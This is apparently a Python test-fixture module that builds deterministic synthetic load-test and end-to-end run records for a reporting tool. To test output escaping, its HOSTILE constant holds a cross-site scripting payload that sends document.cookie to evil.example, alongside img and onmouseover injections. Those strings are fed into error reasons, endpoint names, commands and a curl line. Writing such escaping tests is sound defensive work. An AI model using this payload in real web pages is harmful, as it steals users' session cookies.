"""Makes run records as two shared cores give them, the same ones every time."""

import random
from collections.abc import Sequence
from datetime import UTC, datetime
from functools import cache

from msgspec.structs import replace

from reports import latency
from reports.record import (
    Check,
    Conditions,
    Configuration,
    E2eRun,
    Endpoint,
    Histograms,
    Level,
    LoadRun,
    Phase,
    Repetition,
)

HOSTILE = (
    '<script>fetch("http://evil.example/" + document.cookie)</script> \'"><img src=x> \x1b[31m'
)
HOSTILE_NAME = 'GET /clients?<b onmouseover="x()">&surname=O\'Hara'

CRUD_ENDPOINTS = (
    "list clients",
    "read a client",
    "create a client",
    "delete a client",
    "list goods",
)
SUPPLIER_ENDPOINTS = ("availability",)
POINTS = ((1, 1), (1, 2), (2, 1), (2, 2))
CRUD_MAXIMUM = {(1, 1): 502.0, (1, 2): 497.0, (2, 1): 511.0, (2, 2): 506.0}
SUPPLIER_MAXIMUM = {(1, 1): 88.0, (1, 2): 131.0, (2, 1): 94.0, (2, 2): 169.0}


def conditions(**changes: object) -> Conditions:
    """Return the conditions of a run on the containers engine."""
    usual = Conditions(
        engine="containers",
        network_mode="bridge",
        cpu_model="AMD EPYC 7763 64-Core Processor",
        cpu_count=2,
        kernel="Linux 6.8.0-45-generic",
        python="3.13.5",
        rabbitmq="4.0.5",
        erlang="27.3.4",
        commit="a3fcd79b01c2",
        packages={"aio-pika": "10.2.1", "fastapi": "0.165.0", "locust": "2.47.0"},
        details={"image gateway": "sha256:5d0f3c9e", "image broker": "sha256:77ab01c4"},
    )
    return replace(usual, **changes)


def phase(  # noqa: PLR0913 -- every figure of a phase can be asked for
    *,
    arrivals: str = "poisson",
    rate_per_s: float = 351.0,
    duration_s: float = 6.0,
    middle_ms: float = 12.0,
    busy: float = 0.7,
    workers: int = 1,
    endpoints: Sequence[str] = CRUD_ENDPOINTS,
    seed: int = 1,
    **changes: object,
) -> Phase:
    """Return a phase whose latencies are drawn from a log-normal with a slow tail."""
    chance = random.Random(seed)  # noqa: S311 -- not for secrets
    total, rpc = latency.new_histogram(), latency.new_histogram()
    parts = {name: latency.new_histogram() for name in endpoints}
    samples = round(rate_per_s * duration_s)
    for index in range(samples):
        tail = 0.9 if index % 10 == 0 else 0.5
        http_us = 1_000 * middle_ms * chance.lognormvariate(0, tail)
        for histogram in (total, parts[endpoints[index % len(endpoints)]]):
            latency.record_us(histogram, http_us)
        latency.record_us(rpc, http_us * chance.uniform(0.6, 0.85))
    closed = arrivals == "closed"
    reasons = (
        {
            "offered_per_s": "a closed loop offers no rate",
            "lag_ms_p99": "a closed loop has no intended starts",
        }
        if closed
        else {"users": "an open loop has no users"}
    )
    usual = Phase(
        arrivals=arrivals,
        users=16 if closed else None,
        duration_s=duration_s,
        offered_per_s=None if closed else rate_per_s,
        achieved_per_s=rate_per_s,
        throughput_per_s=rate_per_s,
        samples=samples,
        failed=0,
        unknown=0,
        latency_ms=latency.summary(total),
        rpc_ms=latency.summary(rpc),
        host_cpu=busy,
        generator_cpu=0.22,
        lag_ms_p99=None if closed else 2.4,
        worker_shares={
            "srv_clients": _shares(workers, chance),
            "srv_goods": _shares(workers, chance),
        },
        histograms=Histograms(
            total=latency.encode(total),
            rpc=latency.encode(rpc),
            endpoints={name: latency.encode(histogram) for name, histogram in parts.items()},
        ),
        endpoints=tuple(
            Endpoint(
                name=name,
                samples=latency.summary(histogram).samples,
                failed=0,
                latency_ms=latency.summary(histogram),
            )
            for name, histogram in parts.items()
        ),
        errors={},
        levels=_levels(rate_per_s, middle_ms, chance) if closed else (),
        reasons=reasons,
    )
    return replace(usual, **changes)


@cache
def configuration(
    scenario: str, point: tuple[int, int], *, maximum: float, common: float, middle_ms: float
) -> Configuration:
    """Return one point of a sweep with one repetition."""
    resolvers, workers = point
    crud = scenario == "crud"
    endpoints = CRUD_ENDPOINTS if crud else SUPPLIER_ENDPOINTS
    seed = resolvers * 10 + workers

    def made(rate_per_s: float, busy: float, arrivals: str = "poisson", slow: float = 1.0) -> Phase:
        return phase(
            arrivals=arrivals,
            rate_per_s=rate_per_s,
            middle_ms=middle_ms * slow,
            busy=busy,
            workers=workers,
            endpoints=endpoints,
            seed=seed,
        )

    return Configuration(
        scenario=scenario,
        resolvers=resolvers,
        service_workers=workers,
        gateway_workers=1,
        prefetch=32,
        repetitions=(
            Repetition(
                warm_up=made(common, 0.6),
                closed=made(maximum, 0.98 if crud else 0.44, "closed", 2.4),
                open=made(maximum * 0.7, 0.74 if crud else 0.35, slow=1.2),
                common=made(common, 0.71 if crud else 0.31),
            ),
        ),
    )


def load_run(points: Sequence[tuple[int, int]] = POINTS, **changes: object) -> LoadRun:
    """Return a sweep over two scenarios: one bound by the CPU, one by waiting."""
    crud = [
        configuration(
            "crud",
            point,
            maximum=CRUD_MAXIMUM.get(point, 500.0),
            common=351.0,
            middle_ms=11.0 + 4 * sum(point),
        )
        for point in points
    ]
    supplier = [
        configuration(
            "supplier",
            point,
            maximum=SUPPLIER_MAXIMUM.get(point, 200.0),
            common=61.6,
            middle_ms=52.0 / point[1],
        )
        for point in points
    ]
    usual = LoadRun(
        started_at=datetime(2026, 11, 24, 10, 11, 50, tzinfo=UTC),
        duration_s=391.4,
        command="nox -s load -- --resolvers 1,2 --workers 1,2 --seed 1",
        seed=1,
        stack="reference",
        conditions=conditions(),
        ready_s={"broker": 4.1, "gateway": 1.3, "resolver": 0.6, "stack": 7.2},
        scenarios={
            "crud": "Reads with a limit, writes paired with deletes, on both services.",
            "supplier": "Availability calls, which wait for a supplier: time passes without CPU.",
        },
        configurations=(*crud, *supplier),
    )
    return replace(usual, **changes)


def hostile_load_run() -> LoadRun:
    """Return a sweep whose error reasons, endpoint names and settings are meant to do harm."""
    run = load_run()
    first = run.configurations[0]
    common = phase(middle_ms=19.0, seed=11)
    bad = replace(
        common,
        failed=41,
        errors={HOSTILE: 40, "x" * 5_000: 1} | {f"reason {number}": 1 for number in range(60)},
        endpoints=(*common.endpoints, replace(common.endpoints[0], name=HOSTILE_NAME)),
        worker_shares={"srv_clients": {HOSTILE: 0.93, "srv_clients/8": 0.07}},
    )
    worse = replace(first, repetitions=(replace(first.repetitions[0], common=bad),))
    return replace(
        run,
        command=f"nox -s load -- --scenario '{HOSTILE}'",
        scenarios=run.scenarios | {"crud": HOSTILE},
        configurations=(worse, *run.configurations[1:]),
    )


def e2e_run(checks: Sequence[Check] | None = None, **changes: object) -> E2eRun:
    """Return a run of the contract suite; without checks given, all is well but two."""
    kept = [
        Check(name=name, verdict="pass", sentence=sentence, seconds=2.0 + number)
        for number, (name, sentence) in enumerate(
            {
                "golden trial": "The six calls of the trial gave the same answers both ways.",
                "srv_clients as its schema says": "412 generated requests, seeded and empty data.",
                "srv_goods as its schema says": "388 generated requests, seeded and empty data.",
                "no responder": "503 no_responder after 9 ms with every resolver killed.",
            }.items()
        )
    ]
    broken = Check(
        name=f"parity {HOSTILE_NAME}",
        verdict="fail",
        sentence=f"The gateway answered 500 where the service answers 422: {HOSTILE}",
        seconds=0.4,
        curl=f"curl -X POST -d '{HOSTILE}' http://127.0.0.1:8000/clients",
    )
    void = Check(
        name="service stopped", verdict="unknown", sentence="The check raised OSError.", seconds=5.1
    )
    usual = E2eRun(
        started_at=datetime(2026, 11, 24, 9, 2, 11, tzinfo=UTC),
        duration_s=84.0,
        command="nox -s e2e",
        seed=1,
        stack="reference",
        conditions=conditions(engine="processes", network_mode="host"),
        checks=tuple(checks) if checks is not None else (*kept, broken, void),
        cases=800,
        junit="junit.xml",
    )
    return replace(usual, **changes)


def _shares(workers: int, chance: random.Random) -> dict[str, float]:
    weights = [chance.uniform(0.9, 1.1) for _ in range(workers)]
    return {f"{4_000 + index}": weight / sum(weights) for index, weight in enumerate(weights)}


def _levels(maximum: float, middle_ms: float, chance: random.Random) -> tuple[Level, ...]:
    """Return the doubling steps up to a maximum, as Little's law would have them."""
    levels = []
    for users in (1, 2, 4, 8, 16):
        rate_per_s = min(maximum, users * 1_000 / (middle_ms / 1.6)) * chance.uniform(0.97, 1.0)
        histogram = latency.new_histogram()
        for _ in range(round(rate_per_s)):
            latency.record_us(histogram, users / rate_per_s * 1e6 * chance.lognormvariate(0, 0.4))
        levels.append(
            Level(
                users=users,
                duration_s=1.0,
                throughput_per_s=rate_per_s,
                samples=latency.summary(histogram).samples,
                failed=0,
                latency_ms=latency.summary(histogram),
            )
        )
    return tuple(levels)
